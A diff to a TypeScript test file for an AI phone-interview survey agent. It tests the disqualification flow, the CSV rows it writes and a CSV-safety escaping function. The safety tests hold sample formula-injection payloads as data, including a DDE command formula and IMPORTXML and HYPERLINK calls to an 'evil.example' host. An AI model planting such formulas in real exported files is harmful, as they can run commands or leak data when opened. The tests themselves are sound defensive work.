@@ -1,13 +1,15 @@
-import { mkdtempSync, readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import type { TaskGroupResult } from 'react-agent-tasks';
 import { renderWorkflow, scriptedLLM, type ScriptRule } from 'react-agent-tasks/testing';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { createExampleCall } from '../shared/session.js';
 import { survey, surveyDisqualified } from './example.js';
-import { Disqualified } from './disqualify.js';
 import { Interview } from './interview.js';
-import { appendInterview, CSV_COLUMNS } from './record.js';
+import { appendInterview, CSV_COLUMNS, InterviewWriteError, safeCell } from './record.js';
 import type { InterviewRecord, InterviewResults, InterviewUserData } from './types.js';
 
 const tempCsv = () => join(mkdtempSync(join(tmpdir(), 'survey-')), 'interviews.csv');
@@ -54,7 +56,7 @@ describe('<Interview>', () => {
 
   test('a malformed email goes back to the model as an error and the step stays', async () => {
     const flow = await renderWorkflow(<Interview />, {
-      llm: scriptedLLM([intro, { user: 'jane at example', toolCalls: [{ name: 'record_email', args: { email: 'jane at example' } }] }]),
+      llm: scriptedLLM([intro, { user: 'jane at example', toolCalls: [{ name: 'record_email', args: { email: 'jane at example' }, expectError: true }] }]),
     });
     await flow.say("I'm Jane Doe.");
     const turn = await flow.say('jane at example');
@@ -62,26 +64,20 @@ describe('<Interview>', () => {
     expect(flow.activeTask?.id).toBe('email');
   });
 
-  test('disqualify from any step: the answers so far and the reason are handed over, and the interview ends', async () => {
-    const disqualified: Array<[Partial<InterviewResults>, InterviewUserData]> = [];
-    const flow = await renderWorkflow(<Interview onDisqualified={async (results, data) => void disqualified.push([results, { ...data }])} />, {
-      llm: scriptedLLM([
-        intro,
-        email,
-        { user: /can't commute/, toolCalls: [{ name: 'disqualify', args: { reason: 'Cannot commute to the office.' } }] },
-      ]),
+  test.each([
+    ['intro', [], {}],
+    ['commute', ["I'm Jane Doe.", 'jane@example.org'], { intro: { name: 'Jane Doe', intro: 'Backend developer.' }, email: { email: 'jane@example.org' } }],
+  ])('disqualify in %s ends the group early and successfully: the answers so far, the disqualification, endedBy', async (step, before, answers) => {
+    const reason = 'Will not commute to the office.';
+    const flow = await renderWorkflow<TaskGroupResult, InterviewUserData>(<Interview />, {
+      llm: scriptedLLM([intro, email, { user: /won't commute/, toolCalls: [{ name: 'disqualify', args: { reason } }] }]),
     });
-    await flow.say("I'm Jane Doe.");
-    await flow.say('jane@example.org');
-    expect(flow.activeTask?.id).toBe('commute');
-    await flow.say("Sorry, I can't commute at all.");
-    expect(disqualified).toEqual([
-      [
-        { intro: { name: 'Jane Doe', intro: 'Backend developer.' }, email: { email: 'jane@example.org' } },
-        { candidateName: 'Jane Doe', disqualificationReason: 'Cannot commute to the office.' },
-      ],
-    ]);
-    await expect(flow.result).rejects.toEqual(new Disqualified('Cannot commute to the office.'));
+    for (const line of before) await flow.say(line);
+    expect(flow.activeTask?.id).toBe(step);
+    const turn = await flow.say("I won't commute, sorry.");
+    expect(turn.toolCalls[0]).toMatchObject({ name: 'disqualify', isError: false, output: JSON.stringify('The candidate is disqualified; the interview is over.') });
+    expect(await flow.result).toEqual({ taskResults: { ...answers, [step]: { disqualified: true, reason } }, endedBy: step });
+    expect(flow.tree()).toMatch(/task experience: pending[\s\S]*task behavioral: pending/);
   });
 });
 
@@ -108,7 +104,7 @@ describe('the survey agent', () => {
     expect(row).toMatch(/,Advance: strong backend experience[^,]*; probe delegation in the next round\.$/);
   });
 
-  test('a disqualified candidate hears a goodbye, the call ends, and gets a row with the reason and no evaluation', async () => {
+  test('a disqualified candidate hears a goodbye, the call ends, and gets a row with the answers so far, the reason, the summary and no evaluation', async () => {
     const csvPath = tempCsv();
     const said: string[] = [];
     const { call, run } = createExampleCall(surveyDisqualified, { llm: scriptedLLM(surveyDisqualified.simulation.script()) }, {
@@ -119,10 +115,12 @@ describe('the survey agent', () => {
     for (const line of surveyDisqualified.simulation.caller) await call.say(line);
     expect(call.closed).toBe(true);
     expect(said.at(-1)).toMatch(/won't move forward with your application\. Goodbye!$/);
-    expect(Object.fromEntries(run.report()).status).toBe('disqualified');
+    const report = Object.fromEntries(run.report());
+    expect(report).toMatchObject({ status: 'disqualified', disqualification: { step: 'commute', reason: 'Will not commute to the office.' }, evaluation: undefined });
+    expect(Object.keys(report.results as object)).toEqual(['intro', 'email']);
     const lines = readFileSync(csvPath, 'utf8').trimEnd().split('\n');
     expect(lines).toHaveLength(2);
-    expect(lines[1]).toMatch(/,disqualified,Jane Doe,.*,jane@example\.org,,,,,,,,Will not commute to the office\.,,$/);
+    expect(lines[1]).toMatch(/,disqualified,Jane Doe,.*,jane@example\.org,,,,,,,,Will not commute to the office\.,"Jane Doe \(jane@example\.org\) builds [^"]*will not commute to the office\.",$/);
   });
 });
 
@@ -140,5 +138,67 @@ describe('CSV file', () => {
     const text = readFileSync(csvPath, 'utf8');
     expect(text.split(CSV_COLUMNS.join(',')).length - 1).toBe(1);
     expect(text).toContain('"Doe, Jane","Says ""hi""\nand waves"');
+  });
+});
+
+describe('CSV safety', () => {
+  const FORMULA = /^[=+\-@\t\r]/;
+
+  test('no cell a spreadsheet would run as a formula: = + - @, a leading tab or CR', async () => {
+    const csvPath = tempCsv();
+    const hostile = ['=HYPERLINK("http://evil.example","click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    const record: InterviewRecord = {
+      status: 'completed',
+      results: {
+        intro: { name: hostile[0]!, intro: hostile[1]! },
+        email: { email: hostile[2]! },
+        behavioral: { strengths: hostile[3]!, weaknesses: hostile[4]!, workStyle: hostile[5]! },
+        experience: { years: -1, summary: 'ok' },
+      },
+      userData: { candidateName: '=cmd|"/c calc"!A1' },
+      disqualification: { step: 'behavioral', reason: '=IMPORTXML("http://evil.example")' },
+      evaluation: 'fine',
+    };
+    await appendInterview(csvPath, record);
+    const [row] = parse(readFileSync(csvPath, 'utf8'), { columns: true }) as Array<Record<string, string>>;
+    for (const cell of Object.values(row!)) expect(cell).not.toMatch(FORMULA);
+    expect(row!.candidate_name).toBe(`'=cmd|"/c calc"!A1`);
+    expect(row!.intro).toBe("'+1+1");
+    expect(row!.weaknesses).toBe("'\t=1+1");
+    expect(row!.years_of_experience).toBe("'-1");
+    expect(row!.disqualification_reason).toBe(`'=IMPORTXML("http://evil.example")`);
+  });
+
+  test('safeCell: any answer, the cell never starts a formula and keeps the answer after at most one apostrophe', () => {
+    fc.assert(
+      fc.property(fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((c) => fc.string().map((rest) => c + rest))), (answer) => {
+        const cell = safeCell(answer);
+        expect(cell).not.toMatch(FORMULA);
+        expect(cell === answer || cell === `'${answer}`).toBe(true);
+      }),
+    );
+  });
+
+  test('a CSV file that cannot be written is reported at once, with the interview, and the call goes on', async () => {
+    // A directory cannot be created under a regular file: every write fails at once.
+    const blocked = join(mkdtempSync(join(tmpdir(), 'survey-')), 'not-a-directory');
+    writeFileSync(blocked, '');
+    const csvPath = join(blocked, 'interviews.csv');
+    await expect(appendInterview(csvPath, { status: 'completed', results: {}, userData: {} })).rejects.toBeInstanceOf(InterviewWriteError);
+
+    const { call, run } = createExampleCall(survey, { llm: scriptedLLM(survey.simulation.script()) }, { csvPath });
+    await call.start(run.agent);
+    for (const line of survey.simulation.caller) await call.say(line);
+    await call.settled('the interview to be reported', run.finished);
+    await call.close();
+    const report = Object.fromEntries(run.report());
+    expect(report.status).toBe('completed');
+    expect(report.csv).toEqual(expect.stringMatching(/^could not write the interview to .*not-a-directory\/interviews\.csv: E[A-Z]+/));
+
+    const disqualified = createExampleCall(surveyDisqualified, { llm: scriptedLLM(surveyDisqualified.simulation.script()) }, { csvPath });
+    await disqualified.call.start(disqualified.run.agent);
+    for (const line of surveyDisqualified.simulation.caller) await disqualified.call.say(line);
+    expect(disqualified.call.closed).toBe(true);
+    expect(Object.fromEntries(disqualified.run.report())).toMatchObject({ status: 'disqualified', csv: expect.stringMatching(/^could not write the interview to /) });
   });
 });
